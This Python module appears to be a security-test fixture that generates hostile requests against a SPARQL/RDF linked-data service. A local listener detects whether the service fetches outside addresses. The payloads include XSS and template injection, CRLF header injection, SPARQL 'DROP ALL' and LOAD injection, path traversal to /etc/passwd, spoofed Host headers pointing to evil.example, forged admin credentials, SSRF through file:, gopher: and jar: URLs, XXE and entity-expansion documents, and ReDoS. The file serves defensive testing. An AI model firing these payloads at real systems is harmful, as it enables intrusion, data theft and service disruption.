"""Requests that strangers may send: every route, with what is right and with what is meant to do harm."""

import json
import socket
import threading
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlencode

from queries.model import Query
from service.assets import load_assets

FORM = "application/x-www-form-urlencoded"
BROWSER = {"Accept": "text/html"}

MARKUP = "\"'><xss onx=1></title></textarea></pre><xss>{{7919*7927}}${7919*7927}"
EVALUATED = str(7919 * 7927)
"""Would be an element or an attribute of a page that does not escape it, and `EVALUATED` in one that evaluates it."""

BREAKS = "a\r\nX-Injected: 1\r\n\r\n<xss>"
"""Would be a header of an answer into which it is written as it is."""

OUT_OF_THE_STRING = '" } UNION { ?s ?p ?o } SERVICE <ELSEWHERE> { } #'
TEXTS = (
    MARKUP,
    BREAKS,
    OUT_OF_THE_STRING,
    "> } ; DROP ALL ; LOAD <ELSEWHERE> #\\u0022 } \\",
    "../../../../../../etc/passwd",
    "\x00\x1b[31m\N{RIGHT-TO-LEFT OVERRIDE}\U0001f5ff",
)
"""Values for any parameter; ELSEWHERE stands for an address that nobody should ask."""

PATHS = (
    "plan/noms-2009",
    "plan/noms-2009.html",
    "plan/noms-2009.jsonld",
    "latest.nq.gz",
    *load_assets().files,
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "//example.org/%5c%5cexample.org",
    "%0d%0aX-Injected:%201",
    quote(MARKUP, safe=""),
    "%00",
    "%ff%fe",
    ".git/config",
    "a" * 3000,
)
"""Ends of any path, as they are sent."""

HEADERS = (
    {"Host": "evil.example"},
    {"Host": 'evil.example"><xss>'},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "javascript", "X-Forwarded-Prefix": "//evil.example"},
    {"X-Request-Id": '"><xss onx=1>'},
    {"Cookie": "session=eyJhZG1pbiI6dHJ1ZX0.aaaa.bbbb", "Authorization": "Basic YWRtaW46YWRtaW4="},
    {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/admin"},
    {"If-None-Match": '"' + "a" * 8000, "Range": "bytes=0-1,5-,-5,a-b", "If-Range": "x"},
    {"Accept": "text/html;q=" + "9" * 4000, "Accept-Encoding": "zstd;q=x,,,gzip;q=-1"},
    {"Accept": ",".join(["a/b"] * 2000)},
    {"Content-Type": "multipart/form-data; boundary=" + "-" * 3000},
)


class Elsewhere:
    """Listens at an address that nobody should ask, and counts who comes; a file beside it holds a word to look for."""

    WORD = "a-secret-of-this-machine"

    def __init__(self, folder: Path) -> None:
        self.visits = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.file = folder / "secret.ttl"
        self.file.write_text(f'<x:secret> <x:is> "{self.WORD}" .\n', encoding="utf-8")
        threading.Thread(target=self._listen, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/secret.ttl"

    @property
    def addresses(self) -> tuple[str, ...]:
        """The file and the listener, in every way that an address can be written."""
        host, path = f"127.0.0.1:{self.port}", self.file.as_posix()
        return (
            f"file://{path}",
            f"file://localhost{path}",
            f"file:{path}",
            f"FILE://{path}",
            f"file://{host}{path}",
            f"http://{host}/x",
            f"https://{host}/x",
            f"HTTP://user:word@{host}/x",
            f"http://localhost:{self.port}/x",
            f"ftp://{host}/x",
            f"gopher://{host}/_x",
            f"jar:http://{host}/x!/y",
            "data:text/turtle,%3Cx:a%3E%20%3Cx:b%3E%20%3Cx:c%3E.",
        )

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.visits += 1
            connection.close()


@dataclass(frozen=True)
class Asked:
    """One request; the path is as it is sent."""

    path: str
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes | None = None


def reading(address: str) -> Iterator[Asked]:
    """Every way to ask the service for what stands at an address, and none that it should follow."""
    everything = "{ { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }"
    texts = [
        *(" ".join(("SELECT *", clause, f"<{address}>", everything)) for clause in ("FROM", "FROM NAMED")),
        f"SELECT * {{ GRAPH <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <{address}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(<{address}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{address}>",
        f"LOAD <{address}>",
        f"LOAD SILENT <{address}> INTO GRAPH <x:g>",
    ]
    for text in texts:
        yield Asked("/sparql?" + urlencode({"query": text}))
    posted = "SELECT * { ?s ?p ?o } LIMIT 3"
    for name in ("default-graph-uri", "named-graph-uri", "using-graph-uri", "using-named-graph-uri"):
        yield Asked("/sparql?" + urlencode({"query": posted, name: address}))
        yield Asked("/sparql", "POST", {"Content-Type": FORM}, urlencode({"query": posted, name: address}).encode())
    yield Asked("/sparql", "POST", {"Content-Type": "application/sparql-update"}, f"LOAD <{address}>".encode())
    yield Asked("/sparql", "POST", {"Content-Type": FORM}, urlencode({"update": f"LOAD <{address}>"}).encode())
    yield Asked("/rdf-graph-store?" + urlencode({"graph": address}))
    yield Asked("/rdf-graph-store/" + quote(address, safe=""))
    yield Asked("/rdf-graph-store/" + quote(address, safe=":/"))
    yield Asked("/id/" + quote(address, safe=""))
    yield Asked("/queries/describe?" + urlencode({"item": address}))
    yield Asked("/queries/trace?" + urlencode({"initiative": address}))
    yield Asked("/trace/idts.png")
    yield Asked("/trace/" + quote(address, safe="") + ".png")


def documents(elsewhere: str) -> dict[str, tuple[str, str]]:
    """Documents that would make whoever reads them fetch something: the media type, and the text."""
    xml = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:y="x:"><y:a>&e;</y:a></rdf:RDF>'
    shacl = "@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . "
    return {
        "JSON-LD with a context elsewhere": (
            "application/ld+json",
            json.dumps({"@context": elsewhere, "@id": "x:a", "x:b": "c"}),
        ),
        "XML with an external entity": (
            "application/rdf+xml",
            f'<!DOCTYPE r [<!ENTITY e SYSTEM "{elsewhere}">]>{xml}',
        ),
        "XML with a document type elsewhere": ("application/rdf+xml", f'<!DOCTYPE r SYSTEM "{elsewhere}">{xml}'),
        "XML whose entities grow": (
            "application/rdf+xml",
            '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
            + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdfgh", "bcdfghe", strict=True))
            + f"]>{xml}",
        ),
        "owl:imports": ("text/turtle", f"{shacl} <x:o> a owl:Ontology ; owl:imports <{elsewhere}> ."),
        "shapes elsewhere": ("text/turtle", f"{shacl} <x:d> sh:shapesGraph <{elsewhere}> ."),
        "SHACL-JS": (
            "text/turtle",
            f'{shacl} <x:S> sh:targetNode <x:a> ; sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL '
            f'"{elsewhere}"^^<http://www.w3.org/2001/XMLSchema#anyURI> ] ] .',
        ),
        "a query in a document": ("application/sparql-query+json", json.dumps({"query": f"LOAD <{elsewhere}>"})),
    }


def sending(elsewhere: str, paths: Iterable[str]) -> Iterator[Asked]:
    """Every such document, sent to each of these paths by each method that has a body."""
    for media_type, text in documents(elsewhere).values():
        for path in paths:
            for method in ("POST", "PUT", "PATCH"):
                yield Asked(path, method, {"Content-Type": media_type}, text.encode())


def routes(rules: Iterable[str]) -> Iterator[Asked]:
    """Every address of the service, with each of `PATHS` in the place of what an address leaves open."""
    for rule in rules:
        head, mark, tail = rule.partition("{")
        for end in PATHS if mark else ("",):
            path = head + end + tail.partition("}")[2]
            yield Asked(path)
            yield Asked(path, headers=BROWSER)
    for method in ("HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"):
        for rule in rules:
            yield Asked(rule.replace("{", "").replace("}", ""), method)


def named(queries: Iterable[Query], elsewhere: str) -> Iterator[Asked]:
    """Every named query with its example in every format, and each parameter with each of `TEXTS`."""
    for query in queries:
        path = f"/queries/{query.name}"
        yield Asked(f"{path}.rq")
        right = {p.name: p.example or p.default or "" for p in query.parameters if p.required}
        for format in ("html", "json", "records", "xml", "csv", "tsv", "ttl", "nt", "rdf", "jsonld"):
            yield Asked(f"{path}?{urlencode({**right, 'format': format})}")
        for name in (*query.by_name, "limit", "offset", "format", "unknown"):
            for text in TEXTS:
                value = text.replace("ELSEWHERE", elsewhere)
                headers = BROWSER if text in (MARKUP, BREAKS) else {}
                yield Asked(f"{path}?{urlencode({**right, name: value})}", headers=headers)


def asking(elsewhere: str) -> Iterator[Asked]:
    """The endpoint: queries of every form in every format, and texts that are none."""
    texts = [
        "SELECT * { ?s ?p ?o } LIMIT 50",
        "ASK { ?s ?p ?o }",
        "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } LIMIT 50",
        "DESCRIBE plan:noms-2009",
        f"SELECT ({json.dumps(MARKUP)} AS ?x) (IRI('javascript:alert(1)') AS ?y) {{}}",
        f"SELECT (<{elsewhere}>(1) AS ?x) {{}}",
        "SELECT (<http://jena.hpl.hp.com/ARQ/function#js>('f') AS ?x) {}",
        "SELECT (NOW() AS ?a) (RAND() AS ?b) (UUID() AS ?c) (BNODE() AS ?d) (TZ(NOW()) AS ?e) {}",
        "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '^(a+)+$') || CONTAINS(LCASE(STR(?o)), 'é')) } ORDER BY ?o LIMIT 9",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        MARKUP,
        "INSERT DATA { <x:a> <x:b> <x:c> }",
    ]
    for text in texts:
        for format in ("", "html", "json", "xml", "csv", "tsv", "ttl", "nt", "rdf", "jsonld", "trig", "nq"):
            if format in ("", "html") or text in texts[:4]:
                yield Asked("/sparql?" + urlencode({"query": text, **({"format": format} if format else {})}))
    yield Asked("/sparql", "POST", {"Content-Type": "application/sparql-query"}, texts[0].encode())
    yield Asked("/sparql", "POST", {"Content-Type": FORM}, urlencode({"query": texts[0]}).encode())
    yield Asked("/sparql", "POST", {"Content-Type": FORM}, b"&".join([b"a=b"] * 50_000))


def everything(rules: Iterable[str], queries: Iterable[Query], elsewhere: Elsewhere) -> Iterator[Asked]:
    """Some two thousand requests of all kinds."""
    yield from routes(rules)
    yield from named(queries, elsewhere.url)
    yield from asking(elsewhere.url)
    for address in elsewhere.addresses:
        yield from reading(address)
    yield from sending(elsewhere.url, ("/sparql", "/rdf-graph-store?default", "/queries/trace"))
    for headers in HEADERS:
        for path in ("/", "/id/plan/noms-2009", "/queries/funding?limit=2", "/dump/latest.nq", "/nowhere"):
            yield Asked(path, headers=headers)
